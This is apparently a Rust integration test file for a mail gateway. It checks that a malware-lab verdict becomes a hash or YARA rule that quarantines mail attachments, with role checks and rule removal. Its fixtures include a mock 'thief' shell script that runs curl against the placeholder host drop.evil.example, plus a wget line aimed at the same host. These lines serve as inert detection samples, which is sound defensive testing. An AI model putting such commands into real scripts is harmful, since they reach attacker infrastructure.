//! Tests that a finding of the lab becomes a rule for mail with one click: from the sample's page to the quarantine, and back.

use crate::console::visitor::Visitor;
use crate::control::gate::{Client, Site, Up, wait_for};
use base64::Engine;
use std::fs;
use std::os::unix::fs::PermissionsExt;

/// A file that no scanner knows, but a plugin of the lab does.
const CONTENT: &str = "#!/bin/sh\n# a quiet thief\ncurl http://drop.evil.example/collect\n";

/// A plugin that recognises this file.
const JUDGE: &str = r#"#!/bin/sh
if grep -q thief input/attachment; then level=malicious; else level=safe; fi
echo '{"success":true,"summary":{"taxonomies":[{"level":"'$level'","namespace":"judge","predicate":"is","value":"a thief"}]},
"artifacts":[{"dataType":"domain","data":"drop.evil.example"}]}' > output/output.json
"#;

fn site() -> (Site, tempfile::TempDir) {
    let plugins = tempfile::tempdir().expect("a folder");
    let home = plugins.path().join("judge");
    fs::create_dir(&home).expect("a folder");
    fs::write(home.join("run"), JUDGE).expect("a plugin");
    fs::set_permissions(home.join("run"), fs::Permissions::from_mode(0o755)).expect("a plugin");
    fs::write(home.join("plugin.toml"), "name = \"judge\"\nversion = \"1\"\nexec = [\"./run\"]\n").expect("a manifest");
    let settings = format!(
        "[lab]\nenabled = true\nslots = 1\nplugins = {:?}\n[scan]\nenabled = true\n[scan.attachments]\nenabled = false\n[scan.lab]\nenabled = false\n",
        plugins.path()
    );
    (Site::new(&settings), plugins)
}

/// Sends the file to somebody; every address has a Maildir.
fn send(up: &Up, to: &str, content: &str) {
    let mut client = Client::login(&up.plain, "bulk", "a long password").expect("the program logs in");
    let encoded = base64::engine::general_purpose::STANDARD.encode(content);
    let text = format!(
        "From: bulk@localhost\r\nSubject: a file\r\nMIME-Version: 1.0\r\nContent-Type: multipart/mixed; boundary=b\r\n\r\n\
         --b\r\nContent-Type: text/plain\r\n\r\nsee the file\r\n--b\r\nContent-Type: application/octet-stream; name=\"notes\"\r\n\
         Content-Transfer-Encoding: base64\r\n\r\n{encoded}\r\n--b--\r\n"
    );
    let said = client.text("bulk@localhost", &[to], &text);
    assert!(said.starts_with("250"), "{said}");
}

fn quarantined(site: &Site) -> usize {
    site.json(&["quarantine", "list"])["entries"].as_array().expect("a list").len()
}

#[test]
fn a_file_is_blocked_in_mail_at_a_click_and_passes_again_when_the_rule_is_removed() {
    let (site, _plugins) = site();
    let up = site.up();
    let add = ["user", "add", "bulk", "--address", "bulk@localhost", "--profile", "exempt", "--password-stdin"];
    site.weir_with(&add, "a long password\n").ok();
    // There is no rule for it yet.
    send(&up, "ann@localhost", CONTENT);
    site.arrived("ann@localhost", 1);
    let file = site.home().join("notes");
    fs::write(&file, CONTENT).expect("a sample");
    let sample = site.json(&["lab", "submit", file.to_str().expect("text")])[0]["sample"].to_string();
    wait_for("the verdict", || (site.json(&["lab", "report", &sample])["verdict"] == "malicious").then_some(()));

    // The page says what the sample is, and has the button.
    let console = format!("http://{}", up.listener("console"));
    let admin = Visitor::log_in(&console, &[], ("admin", &up.admin_password()));
    let here = format!("/lab/samples/{sample}");
    let page = admin.get(&here);
    for part in
        ["This is malware.", "judge: is: a thief", "Block this file in mail", "drop.evil.example", "Raw reports"]
    {
        assert!(page.contains(part), "{part:?} is missing in:\n{page}");
    }
    let done = admin.post(&here, "/rules/add", &[("what", "hash"), ("sample", &sample)]);
    assert!(done.contains("does not pass from now on") && done.contains("This file is blocked in mail by"), "{done}");

    // The rule works at once, even though the scan has seen this very message before.
    send(&up, "bob@localhost", CONTENT);
    send(&up, "ann@localhost", CONTENT);
    wait_for("two mails in quarantine", || (quarantined(&site) == 2).then_some(()));
    let entry = site.json(&["quarantine", "list"])["entries"][0].clone();
    assert_eq!(entry["queue"], "virus");
    assert!(entry["reason"].as_str().expect("a reason").contains(&format!("sample {sample} of the lab")), "{entry}");
    let rules = site.json(&["scan", "rules", "list"]);
    assert_eq!((&rules[0]["kind"], &rules[0]["by"]), (&"hash".into(), &"console:admin".into()));
    assert_eq!(rules[0]["sample"].to_string(), sample);
    let rule = rules[0]["rule"].to_string();
    assert!(site.weir(&["scan", "rules", "list"]).ok().contains("infected"));
    assert!(site.weir(&["audit", &format!("rule-{rule}")]).ok().contains("rule.add"));
    site.weir(&["scan", "rules", "add", "--sample", &sample]).refused(&["blocked already"]);

    // A restart changes nothing.
    up.kill();
    let up = site.up();
    send(&up, "bob@localhost", CONTENT);
    wait_for("three mails in quarantine", || (quarantined(&site) == 3).then_some(()));

    // After the rule is removed, the file passes again.
    let removed = site.weir(&["scan", "rules", "remove", &rule]).ok();
    assert!(removed.contains("no longer in force"), "{removed}");
    send(&up, "ann@localhost", CONTENT);
    site.arrived("ann@localhost", 2);
    assert_eq!(quarantined(&site), 3);
    site.weir(&["scan", "rules", "remove", &rule]).refused(&["there is no rule"]);
}

#[test]
fn what_a_sample_reaches_becomes_a_rule_of_yara_that_is_shown_before_it_is_saved() {
    let (site, _plugins) = site();
    let up = site.up();
    let add = ["user", "add", "bulk", "--address", "bulk@localhost", "--profile", "exempt", "--password-stdin"];
    site.weir_with(&add, "a long password\n").ok();
    site.weir(&["console", "add", "olga", "--generate"]).ok();
    let olga = site.json(&["console", "passwd", "olga", "--generate"])["password"].as_str().expect("text").to_owned();
    let file = site.home().join("notes");
    fs::write(&file, CONTENT).expect("a sample");
    let sample = site.json(&["lab", "submit", file.to_str().expect("text")])[0]["sample"].to_string();
    wait_for("the verdict", || (site.json(&["lab", "report", &sample])["verdict"] == "malicious").then_some(()));
    let console = format!("http://{}", up.listener("console"));
    let here = format!("/lab/samples/{sample}");
    // An operator can block single files, but nothing more.
    let operator = Visitor::log_in(&console, &[], ("olga", &olga));
    let page = operator.get(&here);
    assert!(page.contains("Block this file in mail") && !page.contains("<textarea"), "{page}");
    let refused = operator.post(&here, "/rules/add", &[("what", "yara"), ("yara", "rule x { condition: true }")]);
    assert!(refused.contains("Only administrators can make and remove"), "{refused}");
    // An administrator sees the text of the rule, and a rule that does not compile is not saved.
    let admin = Visitor::log_in(&console, &[], ("admin", &up.admin_password()));
    let page = admin.get(&here);
    let (_, text) = page.split_once("<textarea").expect("a text");
    let text = text.split_once('>').and_then(|(_, text)| text.split_once("</textarea>")).expect("a text").0;
    let text = text.replace("&quot;", "\"");
    assert!(
        text.contains(" = \"drop.evil.example\" ascii") && text.contains(&format!("Lab_sample_{sample}")),
        "{text}"
    );
    let wrong = admin.post(&here, "/rules/add", &[("what", "yara"), ("sample", &sample), ("yara", "rule x {")]);
    assert!(wrong.contains("Not done."), "{wrong}");
    let saved = admin.post(&here, "/rules/add", &[("what", "yara"), ("sample", &sample), ("yara", &text)]);
    assert!(saved.contains("finds something does not pass"), "{saved}");
    // Another file that uses the same address.
    send(&up, "ann@localhost", "wget drop.evil.example/other\n");
    wait_for("one mail in quarantine", || (quarantined(&site) == 1).then_some(()));
    assert_eq!(site.json(&["quarantine", "list"])["entries"][0]["queue"], "ext");
    let rule = site.json(&["scan", "rules", "list"])[0]["rule"].to_string();
    let refused = operator.post("/rules", "/rules/remove", &[("rule", &rule)]);
    assert!(refused.contains("Only administrators can make and remove"), "{refused}");
    let removed = admin.post("/rules", "/rules/remove", &[("rule", &rule)]);
    assert!(removed.contains("no longer in force") && removed.contains("Nobody has made a rule"), "{removed}");
    send(&up, "ann@localhost", "wget drop.evil.example/other\n");
    site.arrived("ann@localhost", 1);
}

#[test]
fn rules_are_made_at_rest_and_refused_with_a_reason() {
    let (site, plugins) = site();
    drop(site.up());
    let hash = "e3b0c44298fc1c149afbf4c8996fb92427ae41e4649b934ca495991b7852b855";
    let made = site.weir(&["scan", "rules", "add", "--sha256", hash, "--about", "an empty joke"]).ok();
    assert!(made.contains("in force when Weir runs: an empty joke"), "{made}");
    site.weir(&["scan", "rules", "add", "--sha256", &hash.to_uppercase()]).refused(&["blocked already"]);
    site.weir(&["scan", "rules", "add", "--sha256", "00"]).refused(&["no SHA-256", "64 hexadecimal digits"]);
    site.weir(&["scan", "rules", "add"]).refused(&["--sha256"]);
    let rule = plugins.path().join("rule.yar");
    fs::write(&rule, "rule x { condition: $a }").expect("a rule");
    site.weir(&["scan", "rules", "add", "--yara", rule.to_str().expect("text")]).refused(&["$a"]);
    site.weir(&["scan", "rules", "add", "--yara", "/no/such/file"]).refused(&["/no/such/file"]);
    site.weir(&["scan", "rules", "remove", "99"]).refused(&["there is no rule"]);
    assert_eq!(site.json(&["scan", "rules", "list"]).as_array().map(Vec::len), Some(1));
    // The file of a mail can still be scanned without a gate.
    let mail = site.home().join("mail.eml");
    fs::write(&mail, "Subject: x\r\n\r\nhello\r\n").expect("a mail");
    let scanned = crate::harness::weir(&["scan", mail.to_str().expect("text")]).ok();
    assert!(scanned.contains("would pass"), "{scanned}");
}
